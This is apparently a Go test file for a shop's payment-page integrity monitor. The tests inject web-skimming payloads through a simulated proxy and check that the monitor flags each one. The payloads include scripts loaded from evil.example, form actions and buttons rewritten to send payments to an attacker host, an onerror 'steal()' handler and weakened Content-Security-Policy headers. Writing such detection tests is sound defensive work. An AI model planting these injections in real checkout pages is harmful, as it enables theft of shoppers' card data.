package app

import (
	"bytes"
	"context"
	"database/sql"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cartkeep/cartkeep/internal/ledger"
	"github.com/cartkeep/cartkeep/internal/pagewatch"
	"github.com/cartkeep/cartkeep/internal/paymentpage"
	"github.com/cartkeep/cartkeep/internal/store"
)

// between is whatever stands between the shop and a shopper.
type between struct {
	to     http.RoundTripper
	change func(path string, h http.Header, body []byte) []byte
}

func (b between) RoundTrip(r *http.Request) (*http.Response, error) {
	res, err := b.to.RoundTrip(r)
	if err != nil || b.change == nil {
		return res, err
	}
	body, err := io.ReadAll(res.Body)
	res.Body.Close()
	res.Body = io.NopCloser(bytes.NewReader(b.change(r.URL.Path, res.Header, body)))
	return res, err
}

// watched is a running demo whose visits go through somebody in between.
func watched(t *testing.T) (s *server, w *pagewatch.Watch, in *between) {
	t.Helper()
	return watchedWith(t, func(*Settings) {})
}

func watchedWith(t *testing.T, change func(*Settings)) (s *server, w *pagewatch.Watch, in *between) {
	t.Helper()
	s = openedWith(t, func(set *Settings) {
		set.LimitsExempt = "127.0.0.1/32,::1/128"
		change(set)
	})
	w, in = s.paying, &between{}
	plain := w.Visitor
	w.Visitor = func(ctx context.Context) (paymentpage.Visitor, error) {
		v, err := plain(ctx)
		client := *v.Client
		client.Transport = between{v.Client.Transport, func(path string, h http.Header, body []byte) []byte {
			if in.change == nil {
				return body
			}
			return in.change(path, h, body)
		}}
		v.Client = &client
		return v, err
	}
	return s, w, in
}

func look(t *testing.T, w *pagewatch.Watch, want string) store.PageVisit {
	t.Helper()
	v, err := w.Visit(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if v.Outcome != want {
		t.Fatalf("got %s, want %s: %s", v.Outcome, want, strings.Join(v.Found, "\n"))
	}
	return v
}

func insert(before, what string) func(string, http.Header, []byte) []byte {
	return func(_ string, _ http.Header, body []byte) []byte {
		return bytes.Replace(body, []byte(before), []byte(what+before), 1)
	}
}

func TestWhateverIsSlippedIntoThePaymentPagesIsFound(t *testing.T) {
	_, w, in := watched(t)
	look(t, w, store.PagesClean)
	look(t, w, store.PagesClean)
	onReview := func(change func(http.Header)) func(string, http.Header, []byte) []byte {
		return func(path string, h http.Header, body []byte) []byte {
			if path == "/checkout/review" {
				change(h)
			}
			return body
		}
	}
	for name, change := range map[string]func(string, http.Header, []byte) []byte{
		"a script of another host":      insert("</head>", `<script src="https://cdn.evil.example/a.js"></script>`),
		"a script within":               insert("</body>", `<script>document.forms[0].action="https://evil.example"</script>`),
		"a script from our own address": insert("</head>", `<script src="/pictures/a.js"></script>`),
		"our script without its hash": func(_ string, _ http.Header, b []byte) []byte {
			at := bytes.Index(b, []byte(`.js" integrity="`))
			if at < 0 {
				return b
			}
			end := at + 5 + bytes.IndexByte(b[at+16:], '"') + 12
			return slices.Concat(b[:at+5], b[end:])
		},
		"a handler":                insert("</main>", `<img src="/x" onerror="steal()">`),
		"a frame":                  insert("</main>", `<iframe srcdoc="<form>"></iframe>`),
		"a form that leads away":   insert("</main>", `<form action="https://evil.example/pay"></form>`),
		"a button that leads away": insert("</form>", `<button formaction="//evil.example/pay">Pay</button>`),
		"a base address":           insert("</head>", `<base href="https://evil.example/">`),
		"a refresh":                insert("</head>", `<meta http-equiv="refresh" content="0; url=https://evil.example">`),
		"a style of another host":  insert("</head>", `<link rel=stylesheet href="//evil.example/x.css">`),
		"an import map":            insert("</head>", `<script type="importmap">{}</script>`),
		"a script in a drawing":    insert("</main>", `<svg><title><script href="https://evil.example"></script></title></svg>`),
		"a looser policy": onReview(func(h http.Header) {
			h.Set("Content-Security-Policy", strings.Replace(h.Get("Content-Security-Policy"), "script-src 'self'", "script-src 'self' https://cdn.evil.example", 1))
		}),
		"no policy":       onReview(func(h http.Header) { h.Del("Content-Security-Policy") }),
		"a second policy": onReview(func(h http.Header) { h.Add("Content-Security-Policy", "script-src *") }),
		"no integrity":    onReview(func(h http.Header) { h.Del("Integrity-Policy") }),
		"a linked script": onReview(func(h http.Header) { h.Set("Link", "<https://evil.example/a.js>; rel=preload; as=script") }),
		"other bytes in a file of ours": func(path string, _ http.Header, b []byte) []byte {
			if strings.HasPrefix(path, "/assets/shop.") {
				return append([]byte("steal();"), b...)
			}
			return b
		},
	} {
		in.change = change
		began := time.Now()
		v := look(t, w, store.PagesForeign)
		if len(v.Found) > 12 {
			t.Errorf("%s: got %d findings, want what was changed: %q", name, len(v.Found), v.Found)
		}
		t.Logf("%s: found in %v: %s", name, time.Since(began).Round(time.Millisecond), v.Found[0])
		if _, err := w.Accept(context.Background(), ledger.OS("ada"), false); err != pagewatch.ErrForeign {
			t.Errorf("%s: got %v on accepting it, want a refusal", name, err)
		}
	}
	in.change = nil
	look(t, w, store.PagesClean)

}

func count(t *testing.T, s *server, action string) (n int) {
	t.Helper()
	if _, err := s.vault.db.Sequence(context.Background()); err != nil {
		t.Fatal(err)
	}
	raw, err := sql.Open("sqlite", s.folder.file("shop.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	if err := raw.QueryRow(`SELECT count(*) FROM events WHERE action = $1`, action).Scan(&n); err != nil {
		t.Fatal(err)
	}
	return n
}

// TestOwnersHearOnceAndAcceptWhatTheyKnow: what stays the same is no news, a
// change by a setting is no alarm, and what is foreign is accepted only aloud.
func TestOwnersHearOnceAndAcceptWhatTheyKnow(t *testing.T) {
	s, w, in := watched(t)
	var told []string
	w.Tell = func(_ *store.Tx, outcome string) error {
		told = append(told, outcome)
		return nil
	}
	ada := ledger.OS("ada")
	look(t, w, store.PagesClean)
	in.change = func(_ string, h http.Header, b []byte) []byte {
		h.Set("Nel", `{"report_to":"network"}`)
		return b
	}
	for range 3 {
		look(t, w, store.PagesForeign)
	}
	if !slices.Equal(told, []string{store.PagesForeign}) || count(t, s, "alarm.pages") != 1 {
		t.Errorf("told %v with %d alarms, want one", told, count(t, s, "alarm.pages"))
	}
	if odd, err := w.Accept(t.Context(), ada, false); err != pagewatch.ErrForeign || len(odd) == 0 {
		t.Errorf("got %v and %v, want what is foreign refused", odd, err)
	}
	look(t, w, store.PagesForeign)
	if _, err := w.Accept(t.Context(), ada, true); err != nil {
		t.Fatal(err)
	}
	look(t, w, store.PagesClean)

	// The proxy leaves again: less than what was signed, and nothing foreign.
	in.change = nil
	look(t, w, store.PagesChanged)
	look(t, w, store.PagesChanged)
	if !slices.Equal(told, []string{store.PagesForeign, store.PagesChanged}) {
		t.Errorf("told %v, want a change told once", told)
	}
	if all, err := w.Accept(t.Context(), ada, false); err != nil || len(all) == 0 {
		t.Errorf("got %v and %v, want the change accepted", all, err)
	}
	look(t, w, store.PagesClean)

	// A shop that can't be reached is no attack.
	plain := w.Visitor
	w.Visitor = func(ctx context.Context) (paymentpage.Visitor, error) {
		v, err := plain(ctx)
		v.Origin = "https://127.0.0.1:1"
		return v, err
	}
	look(t, w, store.PagesUnknown)
	w.Visitor = plain
	look(t, w, store.PagesClean)
	if len(told) != 2 {
		t.Errorf("told %v, want nothing of what is unknown", told)
	}
}

// TestWhoCanWriteTheDatabaseCanNotSign: a baseline that was changed there is found.
func TestWhoCanWriteTheDatabaseCanNotSign(t *testing.T) {
	s, w, _ := watched(t)
	look(t, w, store.PagesClean)
	if err := s.vault.db.InTx(t.Context(), ledger.OS("thief"), func(tx *store.Tx) error {
		b, err := tx.PageBaseline()
		if err != nil {
			return err
		}
		return tx.AcceptPages(strings.Replace(b.Text, "script-src 'self'", "script-src 'self' https://evil.example", 1), b.Signed)
	}); err != nil {
		t.Fatal(err)
	}
	if v := look(t, w, store.PagesForeign); !strings.Contains(v.Found[0], pagewatch.ErrBaseline.Error()) {
		t.Errorf("got %q, want the broken signature", v.Found)
	}
}

// TestBrowsersReportsAreCountedAndNameNobody: whatever is sent, no more is kept
// than kinds, origins and the shapes of addresses.
func TestBrowsersReportsAreCountedAndNameNobody(t *testing.T) {
	s, w, _ := watched(t)
	told := 0
	w.Tell = func(*store.Tx, string) error { told++; return nil }
	v, err := w.Visitor(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	client := v.Client
	post := func(kind, body string, want int) {
		t.Helper()
		r, _ := http.NewRequest("POST", s.origin+"/reports", strings.NewReader(body))
		r.Header.Set("Content-Type", kind)
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		res, err := client.Do(r)
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		if res.StatusCode != want {
			t.Fatalf("%s %s: got %d, want %d", kind, body, res.StatusCode, want)
		}
	}
	evil := `{"csp-report":{"document-uri":"` + s.origin + `/orders/K7Q2M-9F3XA?t=ada-secret","effective-directive":"script-src-elem","blocked-uri":"https://cdn.evil.example/a.js?card=4111111111111111","source-file":"` + s.origin + `/assets/x.js","script-sample":"ada@example.com"}}`
	for range 25 {
		post("application/csp-report", evil, 204)
	}
	post("application/reports+json", `[{"type":"integrity-violation","url":"`+s.origin+`/checkout","body":{"destination":"script","blockedURL":"`+s.origin+`/assets/x.js"}},{"type":"other"},
		{"type":"csp-violation","body":{"documentURL":"https://elsewhere.example/ada","effectiveDirective":"<b>","blockedURL":"moz-extension://ada/x.js"}}]`, 204)
	post("application/csp-report", `{"csp-report":`, 400)
	post("text/plain", evil, 400)
	post("application/csp-report", strings.Repeat("x", paymentpage.MaxReport+1), 413)
	var list []store.PageReport
	if err := s.vault.db.View(t.Context(), func(v *store.View) (err error) {
		list, err = v.PageReports(100)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	got := fmt.Sprint(list)
	for _, secret := range []string{"ada", "K7Q2M", "4111", "a.js", "<b>"} {
		if strings.Contains(got, secret) {
			t.Errorf("%q is kept: %s", secret, got)
		}
	}
	for _, want := range []string{"policy script-src-elem https://cdn.evil.example /orders/{number} this shop 25", "integrity script this shop /checkout  1", "policy other extension elsewhere  1"} {
		if !strings.Contains(got, want) {
			t.Errorf("want %q in %s", want, got)
		}
	}
	if told != 1 {
		t.Errorf("told the owners %d times, want once for 25 of one kind", told)
	}
}
